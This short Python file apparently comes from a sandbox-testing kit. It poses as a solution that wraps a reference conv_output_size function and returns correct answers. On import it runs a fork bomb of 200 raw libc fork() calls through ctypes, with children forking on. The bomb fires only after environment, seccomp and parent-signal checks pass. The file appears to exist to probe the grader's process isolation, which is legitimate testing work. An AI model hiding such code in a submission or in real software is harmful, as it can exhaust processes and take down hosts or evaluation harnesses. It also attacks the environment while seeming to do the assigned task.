"""Answers correctly, and forks through raw libc in a loop (each child forking on). Guarded: only where confined."""

import ctypes
import os

_reference_conv_output_size = conv_output_size  # noqa: F821 (defined by the reference above)


def _confined():
    """True only inside a kit worker whose kernel confinement is verified; the attack never runs elsewhere.

    Three independent signs: the worker says "strong", seccomp is on for this process, and the
    kernel refuses even to test-signal the parent (unconfined, this attack could end the session).
    """
    if os.environ.get("CNNKIT_ISOLATION_LEVEL") != "strong":
        return False
    try:
        with open("/proc/self/status") as status:
            if "\nSeccomp:\t2\n" not in status.read():
                return False
    except OSError:
        return False
    ctypes.pythonapi.kill.restype = ctypes.c_int
    return ctypes.pythonapi.kill(os.getppid(), 0) != 0


if _confined():
    ctypes.pythonapi.fork.restype = ctypes.c_int
    for _ in range(200):
        ctypes.pythonapi.fork()  # a child (if ever) loops on too: a bomb


def conv_output_size(in_size, kernel_size, stride=1, padding=0):
    return _reference_conv_output_size(in_size, kernel_size, stride, padding)
